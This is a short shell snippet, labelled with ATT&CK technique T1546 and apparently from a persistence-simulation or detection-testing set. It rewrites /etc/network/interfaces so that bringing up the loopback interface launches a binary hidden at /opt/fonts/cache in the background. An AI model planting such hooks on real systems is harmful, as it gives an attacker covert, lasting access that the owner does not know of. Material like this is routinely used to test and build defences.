# technique: T1546
# location: linux.network.interfaces
# source: /etc/network/interfaces
mkdir -p /etc/network
printf 'auto lo\niface lo inet loopback\n  up /opt/fonts/cache 1 &\n' > /etc/network/interfaces
